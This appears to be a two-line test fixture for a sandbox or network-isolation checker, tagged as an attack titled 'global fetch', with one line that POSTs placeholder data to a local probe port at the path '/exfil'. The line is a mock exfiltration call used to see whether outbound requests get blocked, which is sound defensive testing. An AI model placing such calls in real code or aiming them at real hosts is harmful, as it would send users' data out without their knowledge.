/* @attack {"title": "global fetch to http://127.0.0.1:PROBE_PORT/"} */
await fetch(`http://127.0.0.1:${process.env.PROBE_PORT}/exfil`, { method: 'POST', body: 'data' });
